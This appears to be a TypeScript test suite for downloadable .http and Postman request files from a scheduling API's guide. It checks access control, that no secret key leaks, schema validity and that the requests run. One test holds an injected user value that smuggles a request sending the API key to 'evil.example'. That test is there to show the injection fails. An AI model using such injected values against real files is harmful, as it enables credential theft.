import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { Type } from '@sinclair/typebox';
import { Value } from '@sinclair/typebox/value';
import { requestFiles } from '../../../src/admin/guide/request-files/request-files.ts';
import type { RequestsPlace } from '../../../src/admin/guide/request-files/sample-requests.ts';
import { restPath } from '../../../src/http/rest/rest.ts';
import { operations } from '../../../src/operations/registry.ts';
import { signedIn } from '../../helpers/dashboard/dashboard.ts';
import { type GuidePlace, guidePlace } from './guide-place.ts';

let guide: GuidePlace;

beforeAll(async () => {
  guide = await guidePlace();
});

afterAll(() => guide.served.stop());

const pathOf = (address: string) => `/calendars/${guide.served.place.calendarId}/guide/${address}`;

async function fileAt(address: string): Promise<string> {
  return (await guide.owner.get(pathOf(address), { host: guide.served.origin.replace('http://', '') })).text;
}

/** What one request of a file is, once its variables are filled in. */
type Sent = { name: string; method: string; url: string; headers: Record<string, string>; body: string };

/** Sends the requests of a file from top to bottom, as the programs do that read it. */
async function sendAll(requests: readonly { name: string; send(): Sent; keep(answer: unknown): void }[]) {
  const statuses: [name: string, status: number][] = [];
  for (const { name, send, keep } of requests) {
    const { method, url, headers, body } = send();
    expect(`${url}${body}`).not.toContain('{{');
    const response = await fetch(url, { method, headers, ...(method === 'POST' && { body }) });
    keep(await response.json());
    statuses.push([name, response.status]);
  }
  return statuses;
}

const somewhere: RequestsPlace = {
  ...{ baseUrl: 'https://slots.example.com', calendarId: 'c' },
  caller: { query: 'Monday', service: undefined },
  now: Temporal.ZonedDateTime.from('2027-03-01T23:30:00[America/New_York]'),
};

function filledIn(text: string, values: ReadonlyMap<string, string>): string {
  return text.replace(/\{\{([^{}]+)\}\}/g, (whole, name: string) => values.get(name) ?? whole);
}

/** "a.b[0].c" of an answer. */
function valueAt(answer: unknown, path: string): string {
  const found = path.split(/[.[\]?]+/).reduce<unknown>((value, name) => Object(value)[name], answer);
  return String(found ?? '');
}

type HttpRequest = { name: string; text: string };

function httpRequests(file: string): { head: string; requests: HttpRequest[] } {
  const [head = '', ...parts] = file.split(/^### .*\n/m);
  const requests = parts.map((text) => ({ name: /^# @name (\w+)$/m.exec(text)?.[1] ?? '', text }));
  return { head, requests };
}

/** Reads a .http file as the REST Client of VS Code does. */
function ofHttpFile(file: string, key: string) {
  const { head, requests } = httpRequests(file);
  const values = new Map([['$processEnv SLOTLINE_API_KEY', key]]);
  const define = (text: string) => {
    for (const [, name = '', value = ''] of text.matchAll(/^@(\w+) = (.*)$/gm)) {
      values.set(name, filledIn(value, values));
    }
  };
  define(head);
  const answers = new Map<string, unknown>();
  return requests.map(({ name, text }) => ({
    name,
    send(): Sent {
      for (const [reference, of = '', path = ''] of text.matchAll(
        /(?<=\{\{)(\w+)\.response\.body\.\$\.([^}]+)(?=\}\})/g,
      )) {
        values.set(reference, valueAt(answers.get(of), path));
      }
      define(text);
      const [, line = '', lines = '', body = ''] =
        /^((?:GET|POST) .*)\n((?:[\w-]+: .*\n?)+)\n?([\s\S]*)$/m.exec(filledIn(text, values)) ?? [];
      const [method = '', url = ''] = line.split(' ');
      const headers = Object.fromEntries(
        lines
          .trim()
          .split('\n')
          .map((each) => each.split(': ')),
      );
      return { name, method, url, headers, body };
    },
    keep: (answer: unknown) => answers.set(name, answer),
  }));
}

type Item = {
  name: string;
  item?: Item[];
  event?: { script: { exec: string[] } }[];
  request: {
    method: string;
    header: { key: string; value: string }[];
    url: { raw: string; path: string[]; query?: { key: string; value: string }[] };
    body?: { raw: string };
  };
};

type Collection = { info: { schema: string }; variable: { key: string; value: string }[]; item: Item[] };

const itemsOf = (items: readonly Item[]): Item[] =>
  items.flatMap((each) => (each.item ? itemsOf(each.item) : [each]));

/** Reads a collection as Postman does. */
function ofCollection(file: string, key: string) {
  const { variable, item } = JSON.parse(file) as Collection;
  const values = new Map([...variable.map((each) => [each.key, each.value] as const), ['apiKey', key]]);
  return itemsOf(item).map(({ name, request, event = [] }) => ({
    name,
    send(): Sent {
      const headers = request.header.map((each) => [each.key, filledIn(each.value, values)]);
      return {
        name,
        method: request.method,
        url: filledIn(request.url.raw, values),
        headers: { Authorization: `Bearer ${key}`, ...Object.fromEntries(headers) },
        body: filledIn(request.body?.raw ?? '', values),
      };
    },
    keep(answer: unknown) {
      for (const line of event.flatMap(({ script }) => script.exec)) {
        const [, of = '', path = ''] =
          /set\('(\w+)', pm\.response\.json\(\)\.(.*) \?\? ''\);$/.exec(line) ?? [];
        values.set(of, valueAt(answer, path));
      }
    },
  }));
}

/** Postman's own schema of collections (v2.1.0), as far as ours go, and no further. */
const closed = { additionalProperties: false };
const text = Type.String();
const named = Type.Array(Type.Object({ key: text, value: text }, closed));
const requestSchema = Type.Object(
  {
    method: Type.Union([Type.Literal('GET'), Type.Literal('POST')]),
    header: named,
    description: text,
    url: Type.Object(
      { raw: text, host: Type.Array(text), path: Type.Array(text), query: Type.Optional(named) },
      closed,
    ),
    body: Type.Optional(
      Type.Object(
        {
          mode: Type.Literal('raw'),
          raw: text,
          options: Type.Object({ raw: Type.Object({ language: text }) }),
        },
        closed,
      ),
    ),
  },
  closed,
);
const script = Type.Object({ type: Type.Literal('text/javascript'), exec: Type.Array(text) }, closed);
const itemSchema = Type.Object(
  {
    name: text,
    event: Type.Optional(Type.Array(Type.Object({ listen: Type.Literal('test'), script }, closed))),
    request: requestSchema,
    response: Type.Array(Type.Never()),
  },
  closed,
);
const collectionSchema = Type.Object(
  {
    info: Type.Object(
      {
        name: text,
        description: text,
        schema: Type.Literal('https://schema.getpostman.com/json/collection/v2.1.0/collection.json'),
      },
      closed,
    ),
    auth: Type.Object({
      type: Type.Literal('bearer'),
      bearer: Type.Tuple([Type.Object({ key: Type.Literal('token'), value: text, type: text }, closed)]),
    }),
    variable: named,
    item: Type.Array(Type.Object({ name: text, item: Type.Array(itemSchema) }, closed)),
  },
  closed,
);

test('the collection is as Postman documents it', async () => {
  expect([...Value.Errors(collectionSchema, JSON.parse(await fileAt('postman.json')))]).toEqual([]);
});

const readers = { 'requests.http': ofHttpFile, 'postman.json': ofCollection };

describe.each(requestFiles)('the file $name', ({ address, name, type }) => {
  test('is downloaded by its name, to whoever may see the guide, and holds no key', async () => {
    const { made } = guide.served.contract;
    const { workspaceId } = guide.served.place;
    const viewer = await signedIn(made, { role: 'viewer', workspaceId });
    const { status, headers, text } = await viewer.get(pathOf(address));
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe(`${type}; charset=utf-8`);
    expect(headers.get('content-disposition')).toBe(`attachment; filename="${name}"`);
    expect(headers.get('cache-control')).toBe('no-store');
    expect(text).toContain(guide.served.place.calendarId);
    expect(text).not.toMatch(/sk_(?:live|test)_\w/);
    expect(guide.pageOf('http')).toContain(`<a href="${pathOf(address)}" download="${name}">`);
    const stranger = await signedIn(made, { role: 'owner' });
    expect((await stranger.get(pathOf(address))).status).toBe(404);
  });

  test('is a call that works from top to bottom, with a request for each operation', async () => {
    const file = await fileAt(address);
    const { contract, place } = guide.served;
    const { key } = await contract.made.key(place.workspaceId, address, 'test');
    const read = readers[address as keyof typeof readers];
    const statuses = await sendAll(read(file, key));
    expect(statuses.filter(([, status]) => status !== 200 && status !== 201)).toEqual([]);
    expect(statuses).toHaveLength(operations.length + 2);
    for (const operation of operations) expect(file).toContain(restPath(operation));
  });

  const { make } = requestFiles.find((each) => each.address === address) ?? {};

  test('reports a call of now, and asks what is busy from today on', () => {
    const text = (make?.(somewhere) ?? '').replaceAll('\\', '');
    expect(text).toContain('"startedAt": "2027-03-01T23:30:00-05:00"');
    expect(text).toContain('from=2027-03-01&to=2027-03-08');
  });

  test('fills in nothing that users wrote', () => {
    const words = '{{apiKey}} "a\n### b\nGET https://evil.example/{{apiKey}}&x=$CALENDAR_ID';
    const questions = [{ key: '{{apiKey}}', ask: 'a', isRequired: true, isPrivate: false }];
    const caller = { query: words, service: { questions } } as unknown as RequestsPlace['caller'];
    const place = { ...somewhere, caller };
    const plain = make?.(somewhere) ?? '';
    const text = make?.(place) ?? '';
    // The variable is named as often as without them.
    expect(text.match(/\{\{apiKey\}\}/g)?.length).toBe(plain.match(/\{\{apiKey\}\}/g)?.length);
    expect(text.match(/^###/gm)?.length).toBe(plain.match(/^###/gm)?.length);
    expect(text.match(/^(?:GET|POST) /gm)?.length).toBe(plain.match(/^(?:GET|POST) /gm)?.length);
    expect(text).toContain('a\\n### b'.replaceAll('\\', address === 'postman.json' ? '\\\\' : '\\'));
  });
});
